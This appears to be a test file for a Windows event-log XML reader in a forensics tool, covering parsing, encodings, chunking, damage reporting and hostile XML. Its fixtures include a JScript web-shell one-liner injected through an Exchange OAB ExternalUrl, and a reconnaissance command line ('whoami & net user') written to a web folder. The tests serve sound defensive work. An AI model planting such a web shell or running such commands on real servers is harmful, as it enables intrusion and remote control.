import assert from 'node:assert/strict';
import { test } from 'node:test';
import { readText } from '../test-helpers/read.js';
import { EventSplitter } from './event-splitter.js';
import { sniffWinEventXml, wineventXmlReader } from './winevent-xml-reader.js';
import { parseEventXml, unescapeXml } from './xml-event.js';
import { runBounded } from '../../test-support/bounded.js';
import { NS, SECURITY_4688, USERDATA } from './test-helpers/hostile-xml.js';

// Hand-written events in the shape `wevtutil qe <log> /f:xml` writes (single-quoted attributes, no line breaks).
const EXCHANGE_1 = `<Event ${NS}><System><Provider Name='MSExchange CmdletLogs'/><EventID Qualifiers='16384'>1</EventID><Level>4</Level><TimeCreated SystemTime='2021-03-03T02:25:00.1000000Z'/><EventRecordID>4412</EventRecordID><Channel>MSExchange Management</Channel><Computer>EX01.contoso.local</Computer><Security UserID='S-1-5-18'/></System><EventData><Data>Set-OabVirtualDirectory</Data><Data>-ExternalUrl "http://f/&lt;script language=&quot;JScript&quot; runat=&quot;server&quot;&gt;function Page_Load(){eval(Request[&quot;x&quot;],&quot;unsafe&quot;);}&lt;/script&gt;" -Identity "OAB (Default Web Site)"</Data><Data>EX01</Data><Data></Data></EventData><RenderingInfo Culture='en-US'><Message>Cmdlet suceeded. Cmdlet Set-OabVirtualDirectory</Message><Level>Information</Level></RenderingInfo></Event>`;

test('an event becomes a winevent record: System columns, Data pairs, unnamed Data, UserData, the message', async () => {
  const text = `${SECURITY_4688}${EXCHANGE_1}\r\n${USERDATA}`;
  const { stats, records } = await readText(wineventXmlReader, text);
  assert.equal(stats.records, 3);
  assert.equal(stats.badRecords, 0);
  const [proc, cmdlet, cleared] = records;
  assert.equal(proc?.source, 'winevent');
  assert.equal(proc?.time, '2021-03-03T02:20:11.042Z');
  assert.equal(proc?.fields['EventID'], '4688');
  assert.equal(proc?.fields['Provider_Name'], 'Microsoft-Windows-Security-Auditing');
  assert.equal(proc?.fields['EventRecordID'], '191225');
  assert.equal(proc?.fields['Level'], '0');
  assert.equal(proc?.fields['CommandLine'], 'cmd /c "whoami & net user" > C:\\inetpub\\wwwroot\\aspnet_client\\a.txt');
  assert.equal(proc?.fields['UserID'], undefined, 'an empty <Security/> names no user');
  assert.deepEqual(proc?.origin, { path: 'test.log', line: 1, offset: 0 });

  assert.equal(cmdlet?.fields['EventID'], '1', 'the id without its Qualifiers');
  assert.equal(cmdlet?.fields['Data'], 'Set-OabVirtualDirectory');
  assert.equal(
    cmdlet?.fields['Data1'],
    '-ExternalUrl "http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["x"],"unsafe");}</script>" -Identity "OAB (Default Web Site)"',
  );
  assert.equal(cmdlet?.fields['Data2'], 'EX01');
  assert.equal(cmdlet?.fields['Data3'], '');
  assert.equal(cmdlet?.fields['Message'], 'Cmdlet suceeded. Cmdlet Set-OabVirtualDirectory');
  assert.equal(cmdlet?.fields['UserID'], 'S-1-5-18');
  assert.equal(cmdlet?.origin.line, 1);
  assert.equal(cmdlet?.origin.offset, Buffer.byteLength(SECURITY_4688));

  assert.equal(cleared?.fields['SubjectUserName'], 'admin');
  assert.equal(cleared?.fields['Client.Address'], '192.0.2.7');
  assert.equal(cleared?.fields['Client'], undefined, 'an element that said everything in attributes adds no empty entry');
  assert.equal(cleared?.origin.line, 2);

  assert.equal(stats.server, 'EX01.contoso.local');
  assert.equal(stats.firstTime, '2021-03-03T02:20:11.042Z');
  assert.equal(stats.lastTime, '2021-03-03T03:00:00.000Z');
});

test('an <Events> root with a prolog, pretty-printed, in UTF-16LE with a BOM, gives the same records at the right lines', async () => {
  const pretty = `<?xml version="1.0" encoding="utf-16"?>\r\n<Events>\r\n${SECURITY_4688.replace('<EventData>', '\r\n  <EventData>\r\n    ')}\r\n<!-- a comment -->\r\n${USERDATA}\r\n</Events>\r\n`;
  const utf8 = await readText(wineventXmlReader, pretty);
  assert.equal(utf8.stats.badRecords, 0, JSON.stringify(utf8.stats.badSamples));
  assert.deepEqual(
    utf8.records.map((r) => r.origin.line),
    [3, 7],
  );
  assert.equal(utf8.records[0]?.fields['NewProcessName'], 'C:\\Windows\\System32\\cmd.exe');
  const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(pretty, 'utf16le')]);
  for (const size of [1, 3, 64 * 1024]) {
    const read = await readText(wineventXmlReader, utf16, size);
    assert.equal(read.stats.badRecords, 0, `chunks of ${size}: ${JSON.stringify(read.stats.badSamples)}`);
    assert.deepEqual(
      read.records.map((r) => r.fields),
      utf8.records.map((r) => r.fields),
    );
    assert.deepEqual(
      read.records.map((r) => r.origin.line),
      [3, 7],
    );
    const at = pretty.indexOf('<Event ');
    assert.equal(read.records[0]?.origin.offset, 2 + 2 * at, "offsets are the file's bytes");
  }
});

test('the same records whatever the chunking', async () => {
  const text = `\ufeff${SECURITY_4688}\n${EXCHANGE_1.replace('EX01</Data>', 'EX0ä</Data>')}${USERDATA}`;
  const whole = await readText(wineventXmlReader, text);
  assert.equal(whole.records.length, 3);
  assert.equal(whole.records[1]?.fields['Data2'], 'EX0ä');
  for (const size of [1, 2, 5, 13, 600]) {
    const parts = await readText(wineventXmlReader, text, size);
    assert.deepEqual(parts.records, whole.records, `chunks of ${size}`);
    assert.deepEqual(parts.stats, whole.stats, `chunks of ${size}`);
  }
});

test('damage is counted and located: junk between events, an event cut short, a file that ends inside one', async () => {
  const cut = SECURITY_4688.slice(0, 300);
  const text = `${SECURITY_4688}\nGARBAGE\n${cut}\n${EXCHANGE_1}\n${USERDATA.slice(0, 200)}`;
  for (const size of [7, 64 * 1024]) {
    const { stats, records } = await readText(wineventXmlReader, text, size);
    assert.deepEqual(
      records.map((r) => r.fields['EventID']),
      ['4688', '1'],
    );
    assert.equal(stats.badRecords, 3);
    const first = Buffer.byteLength(SECURITY_4688) + 1;
    assert.deepEqual(
      stats.badSamples.map((b) => [b.origin.line, b.origin.offset, b.reason]),
      [
        [2, first, 'text outside an <Event> element'],
        [3, first + 8, 'an <Event> element is cut short: the next one starts inside it'],
        [5, first + 8 + 301 + Buffer.byteLength(EXCHANGE_1) + 1, 'the last <Event> element is cut short: the file ends inside it'],
      ],
    );
    assert.equal(records[1]?.origin.line, 4);
  }
});

test('an event without an EventID, and an over-long event, are bad; the next one is read', () => {
  assert.equal(parseEventXml(`<Event ${NS}><System><Channel>Security</Channel></System></Event>`), 'an <Event> without an EventID');
  const seen: string[] = [];
  const splitter = new EventSplitter(
    {
      event: (xml, line, offset) => seen.push(`${line}@${offset}:${xml.length}`),
      damage: (line, offset, reason) => seen.push(`bad ${line}@${offset}: ${reason}`),
    },
    200,
  );
  const text = Buffer.from(`${SECURITY_4688}\n<Event><System><EventID>1</EventID></System></Event>`);
  for (let i = 0; i < text.length; i += 50) splitter.push(text.subarray(i, i + 50));
  splitter.finish();
  assert.deepEqual(seen, ['bad 1@0: an <Event> element longer than 200 bytes; skipped', `2@${Buffer.byteLength(SECURITY_4688) + 1}:52`]);
});

test('entities and character references are undone, nothing else', () => {
  assert.equal(unescapeXml('a &lt;b&gt; &amp;amp; &quot;&apos; &#65;&#x42; &bogus; &#xD800;'), 'a <b> &amp; "\' AB &bogus; &#xD800;');
});

test('sniff: wevtutil output, an <Events> file, UTF-16; not other XML', () => {
  assert.equal(sniffWinEventXml(SECURITY_4688), 'winevent');
  assert.equal(sniffWinEventXml(`<?xml version="1.0" encoding="utf-16"?>\r\n<Events>\r\n${USERDATA}`), 'winevent');
  const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`<Events>${USERDATA}`, 'utf16le')]);
  assert.equal(sniffWinEventXml(utf16.toString('utf8')), 'winevent');
  assert.equal(sniffWinEventXml('<?xml version="1.0"?><configuration><Event name="x"/></configuration>'), undefined);
  assert.equal(sniffWinEventXml('<Event><System><Provider Name="x"/></System></Event>'), 'winevent');
  assert.equal(sniffWinEventXml('<Event type="calendar"><title>x</title></Event>'), undefined);
  assert.equal(sniffWinEventXml('{"EventID": 1}'), undefined);
});

test('hostile text cannot make the reader backtrack: long runs of spaces, a long attribute name', async () => {
  const result = await runBounded(new URL('./test-helpers/hostile-xml.ts', import.meta.url), 'hostileXml');
  assert.deepEqual(result, { sniffed: undefined, records: 2, badRecords: 1, address: '192.0.2.7' });
});

test('an event nested absurdly deep is bad, not slow', () => {
  const deep = `<Event ${NS}><System><EventID>1</EventID></System><UserData>${'<a>'.repeat(10_000)}${'</b>'.repeat(10_000)}</UserData></Event>`;
  assert.equal(parseEventXml(deep), 'elements nested deeper than 64');
});
